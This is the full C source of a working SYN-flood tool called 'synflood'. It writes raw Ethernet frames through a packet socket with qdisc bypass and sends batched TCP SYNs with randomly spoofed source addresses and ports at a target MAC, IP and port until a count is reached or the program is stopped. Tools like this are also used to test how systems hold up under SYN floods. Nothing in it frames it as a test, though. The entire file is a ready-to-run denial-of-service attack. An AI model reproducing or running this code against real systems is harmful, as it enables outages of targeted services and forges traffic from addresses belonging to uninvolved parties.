// SPDX-License-Identifier: GPL-2.0-only
/*
 * synflood DEV MAC ADDR PORT COUNT: SYNs from random addresses and ports
 * (COUNT 0: until SIGTERM), as fast as DEV takes them. Prints how many went.
 */

#include <arpa/inet.h>
#include <err.h>
#include <errno.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/ether.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define BATCH	256

/* TCP's options: an MSS of 1460, window scale 7, and padding. */
static const uint8_t options[8] = { 2, 4, 0x05, 0xb4, 1, 3, 3, 7 };

struct frame {
	struct ethhdr eth;
	struct iphdr ip;
	struct tcphdr tcp;
	uint8_t options[sizeof(options)];
} __attribute__((packed));

#define SEGMENT	(sizeof(struct tcphdr) + sizeof(options))

static volatile sig_atomic_t stopped;

static void on_term(int sig)
{
	(void)sig;
	stopped = 1;
}

static uint64_t random64(void)
{
	static uint64_t x = 0x9e3779b97f4a7c15;

	x ^= x << 13;
	x ^= x >> 7;
	x ^= x << 17;
	return x;
}

static uint32_t sum(uint32_t total, const void *data, size_t len)
{
	const uint8_t *byte = data;
	size_t i;

	for (i = 0; i < len; i += 2)
		total += byte[i] << 8 | byte[i + 1];
	return total;
}

static uint16_t fold(uint32_t total)
{
	while (total >> 16)
		total = (total & 0xffff) + (total >> 16);
	return htons(~total);
}

static void frame_init(struct frame *f, const char *mac, const char *addr,
		       const char *port)
{
	struct ether_addr *to = ether_aton(mac);

	if (!to || !inet_pton(AF_INET, addr, &f->ip.daddr))
		errx(2, "not addresses: %s, %s", mac, addr);
	memcpy(f->eth.h_dest, to, ETH_ALEN);
	f->eth.h_source[0] = 2;
	f->eth.h_proto = htons(ETH_P_IP);
	f->ip.version = 4;
	f->ip.ihl = 5;
	f->ip.tot_len = htons(sizeof(f->ip) + SEGMENT);
	f->ip.ttl = 64;
	f->ip.protocol = IPPROTO_TCP;
	f->tcp.dest = htons(atoi(port));
	f->tcp.doff = SEGMENT / 4;
	f->tcp.syn = 1;
	f->tcp.window = htons(64240);
	memcpy(f->options, options, sizeof(options));
}

/* A new source, 20.0.0.0 to 83.255.255.255. */
static void frame_vary(struct frame *f)
{
	uint64_t x = random64();

	f->ip.saddr = htonl((20U << 24) + (uint32_t)(x & 0x3fffffff));
	f->tcp.source = htons(1024 + (x >> 30) % 64000);
	f->tcp.seq = random64();
	f->ip.check = 0;
	f->ip.check = fold(sum(0, &f->ip, sizeof(f->ip)));
	f->tcp.check = 0;
	f->tcp.check = fold(sum(sum(IPPROTO_TCP + SEGMENT, &f->ip.saddr, 8),
				&f->tcp, SEGMENT));
}

static int open_device(const char *dev)
{
	struct sockaddr_ll addr = { .sll_family = AF_PACKET };
	int one = 1, fd = socket(AF_PACKET, SOCK_RAW, 0);

	addr.sll_ifindex = if_nametoindex(dev);
	if (!addr.sll_ifindex)
		err(1, "%s", dev);
	if (fd < 0 || bind(fd, (void *)&addr, sizeof(addr)))
		err(1, "packet socket on %s", dev);
	if (setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof(one)))
		warn("PACKET_QDISC_BYPASS");
	return fd;
}

int main(int argc, char **argv)
{
	static struct frame frames[BATCH];
	static struct mmsghdr msg[BATCH];
	static struct iovec iov[BATCH];
	uint64_t count, sent = 0;
	int i, n, fd;

	if (argc != 6)
		errx(2, "usage: synflood DEV MAC ADDR PORT COUNT");
	signal(SIGTERM, on_term);
	fd = open_device(argv[1]);
	count = strtoull(argv[5], NULL, 10);
	for (i = 0; i < BATCH; i++) {
		frame_init(&frames[i], argv[2], argv[3], argv[4]);
		iov[i] = (struct iovec){ &frames[i], sizeof(frames[i]) };
		msg[i].msg_hdr.msg_iov = &iov[i];
		msg[i].msg_hdr.msg_iovlen = 1;
	}
	while (!stopped && (!count || sent < count)) {
		n = count && count - sent < BATCH ? count - sent : BATCH;
		for (i = 0; i < n; i++)
			frame_vary(&frames[i]);
		n = sendmmsg(fd, msg, n, 0);
		if (n < 0 && errno != ENOBUFS && errno != EINTR)
			err(1, "sendmmsg");
		sent += n < 0 ? 0 : n;
	}
	printf("sent %lu\n", sent);
	return 0;
}
